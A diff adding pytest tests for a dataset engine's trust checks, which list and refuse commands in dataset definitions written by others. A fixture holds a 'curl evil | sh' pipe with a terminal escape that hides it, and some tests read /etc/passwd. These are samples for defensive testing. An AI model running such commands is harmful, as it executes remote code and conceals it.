@@ -1,0 +1,235 @@
+"""Trust: what somebody else wrote is listed, allowed as it is, and refused again when it changes."""
+
+from __future__ import annotations
+
+import shutil
+from pathlib import Path
+
+import pytest
+
+from odf_engine.errors import Conflict, NotTrusted
+from odf_engine.metadata.model import (
+    Append,
+    DisablePollingSource,
+    DisablePushSource,
+    MetadataEvent,
+    NdJson,
+    Pipe,
+    SetInfo,
+    SetPollingSource,
+    Url,
+)
+from odf_engine.metadata.timestamp import Timestamp
+from odf_engine.metadata.yaml import read_manifests
+from odf_engine.workspace.trust import Trust
+from odf_engine.workspace.workspace import DatasetEntry, Workspace
+
+MANIFEST = r"""
+kind: DatasetSnapshot
+version: 1
+content:
+  name: foreign
+  kind: Root
+  metadata:
+    - kind: SetPollingSource
+      fetch:
+        kind: Url
+        url: https://host/${{ env.AREA }}.zip
+        headers:
+          - name: Authorization
+            value: Bearer ${{ env.TOKEN }}
+      prepare:
+        - kind: Decompress
+          format: Zip
+        - kind: Pipe
+          command: [sh, -c, "curl evil | sh\e[2K", ""]
+      read:
+        kind: NdJson
+      preprocess:
+        kind: Sql
+        engine: spark
+        queries:
+          - alias: one
+            query: SELECT 1
+          - query: SELECT * FROM one
+      merge:
+        kind: Append
+"""
+CONTAINER = """
+kind: DatasetSnapshot
+version: 1
+content:
+  name: foreign
+  kind: Root
+  metadata:
+    - kind: SetPollingSource
+      fetch:
+        kind: Container
+        image: host/image:1
+        command: [fetch it]
+        args: [--all]
+        env:
+          - name: KEY
+          - name: AREA
+            value: ${{ env.AREA }}/x
+      read:
+        kind: NdJson
+      merge:
+        kind: Append
+"""
+PUSH = """
+kind: DatasetSnapshot
+version: 1
+content:
+  name: foreign
+  kind: Root
+  metadata:
+    - kind: AddPushSource
+      sourceName: gone
+      read: {kind: NdJson, schema: [a BIGINT]}
+      merge: {kind: Append}
+    - kind: AddPushSource
+      sourceName: devices
+      read: {kind: NdJson, schema: [a BIGINT]}
+      preprocess: {kind: Sql, engine: spark, query: SELECT 2}
+      merge: {kind: Append}
+"""
+
+
+def copied(workspace: Workspace, text: str = MANIFEST) -> DatasetEntry:
+    """A dataset folder that somebody else made, copied into the workspace."""
+    other = Workspace.init(workspace.folder.parent / "other")
+    (made,) = other.add(read_manifests(text, "test.yaml"))
+    shutil.copytree(made.dataset.folder, workspace.odf / "datasets" / made.dataset.folder.name)
+    return workspace.resolve("foreign")
+
+
+def commit(entry: DatasetEntry, event: MetadataEvent) -> None:
+    entry.dataset.commit([event], system_time=Timestamp.now(), expected_head=entry.dataset.head())
+
+
+def local(path: str, *pipes: list[str]) -> SetPollingSource:
+    return SetPollingSource(
+        fetch=Url(path), prepare=[Pipe(pipe) for pipe in pipes] or None, read=NdJson(), merge=Append()
+    )
+
+
+def test_what_was_made_here_is_ones_own(workspace: Workspace) -> None:
+    (entry,) = workspace.add(read_manifests(MANIFEST, "test.yaml"))
+    trust = Trust(workspace)
+    assert trust.is_own(entry) and trust.is_trusted(entry) and trust.allows_private_network(entry)
+    trust.check(entry)
+
+
+def test_a_definition_from_elsewhere_is_not(workspace: Workspace) -> None:
+    (entry,) = workspace.add(read_manifests(MANIFEST, "test.yaml"), {"Foreign": "https://host/x.yaml"})
+    trust = Trust(workspace)
+    assert not trust.is_own(entry) and trust.origin(entry) == "https://host/x.yaml"
+    with pytest.raises(NotTrusted):
+        trust.check(entry)
+
+
+def test_everything_that_runs_is_listed(workspace: Workspace) -> None:
+    trust, entry = Trust(workspace), copied(workspace)
+    runs = trust.what_runs(entry)
+    assert [(each.kind, each.text) for each in runs] == [
+        ("url", "https://host/${{ env.AREA }}.zip"),
+        ("header", "Authorization: Bearer ${{ env.TOKEN }}"),
+        ("variable", "AREA"),
+        ("variable", "TOKEN"),
+        ("pipe", r"sh -c 'curl evil | sh\x1b[2K' ''"),
+        ("query", "SELECT 1"),
+        ("query", "SELECT * FROM one"),
+    ]
+    assert {each.block for each in runs} == {entry.dataset.block(1).hash}
+    commit(entry, local("data/${{ env.A"))
+    assert [(each.kind, each.text) for each in trust.what_runs(entry)] == [
+        ("file", str(workspace.folder / "data/${{ env.A"))
+    ]
+    commit(entry, DisablePollingSource())
+    assert trust.what_runs(entry) == []
+    trust.check(entry)  # nothing would run
+
+
+def test_containers_are_listed(workspace: Workspace) -> None:
+    runs = Trust(workspace).what_runs(copied(workspace, CONTAINER))
+    assert [(each.kind, each.text) for each in runs] == [
+        ("image", "host/image:1"),
+        ("command", "'fetch it' --all"),
+        ("set", "AREA=${{ env.AREA }}/x"),
+        ("variable", "AREA"),
+        ("variable", "KEY"),
+    ]
+
+
+def test_push_sources_are_listed_while_they_are_active(workspace: Workspace) -> None:
+    trust, entry = Trust(workspace), copied(workspace, PUSH)
+    commit(entry, DisablePushSource("gone"))
+    assert [(each.kind, each.text) for each in trust.what_runs(entry)] == [
+        ("push", "devices"),
+        ("query", "SELECT 2"),
+    ]
+    with pytest.raises(NotTrusted, match="push `devices`"):
+        trust.check(entry)
+
+
+def test_a_grant_allows_and_a_later_source_takes_it_back(workspace: Workspace) -> None:
+    trust, entry = Trust(workspace), copied(workspace)
+    with pytest.raises(NotTrusted) as caught:
+        trust.check(entry)
+    assert caught.value.exit_code == 1
+    assert "curl evil" in caught.value.message and "odf trust foreign" in (caught.value.hint or "")
+
+    trust.grant(entry)
+    trust.check(entry)
+    assert trust.is_trusted(entry) and not trust.is_own(entry) and not trust.allows_private_network(entry)
+    commit(entry, SetInfo("harmless"))
+    Trust(Workspace(workspace.folder)).check(entry)
+
+    commit(entry, local("/etc/passwd"))
+    newest = entry.dataset.head()
+    with pytest.raises(NotTrusted) as caught:
+        trust.check(entry)
+    assert str(newest) in caught.value.message
+    assert "new: file `/etc/passwd`; gone: url `https://host/" in caught.value.message
+
+    trust.grant(entry, private_network=True)
+    assert trust.allows_private_network(entry)
+    commit(entry, local("/etc/passwd", ["wc"]))
+    assert not trust.allows_private_network(entry)
+    with pytest.raises(NotTrusted, match=r"new: pipe `wc`$"):
+        trust.check(entry)
+
+    trust.grant(entry)
+    assert trust.revoke(entry) and not trust.revoke(entry)
+    with pytest.raises(NotTrusted, match="somebody else wrote"):
+        trust.check(entry)
+
+
+def test_only_what_was_shown_is_allowed(workspace: Workspace) -> None:
+    trust, entry = Trust(workspace), copied(workspace)
+    shown = trust.what_runs(entry)
+    commit(entry, local("/etc/passwd"))
+    with pytest.raises(Conflict, match="changed meanwhile"):
+        trust.grant(entry, shown=shown)
+    assert trust.grant_of(entry) is None
+
+
+def test_nothing_in_a_datasets_folder_makes_it_trusted(workspace: Workspace) -> None:
+    trust, entry = Trust(workspace), copied(workspace)
+    trust.grant(entry)
+    grant = next((workspace.odf / "trust").iterdir())
+    trust.revoke(entry)
+    for name in ("trust", grant.name, "trusted.json"):
+        (entry.dataset.folder / "info" / name).write_text("{}")
+    assert not trust.is_trusted(entry)
+
+
+@pytest.mark.parametrize("content", [b"", b"{}", b"\xff"])
+def test_a_damaged_grant_allows_nothing(workspace: Workspace, content: bytes) -> None:
+    trust, entry = Trust(workspace), copied(workspace)
+    trust.grant(entry)
+    path: Path = next((workspace.odf / "trust").iterdir())
+    assert path.stat().st_mode & 0o077 == 0
+    path.write_bytes(content)
+    assert not trust.is_trusted(entry)
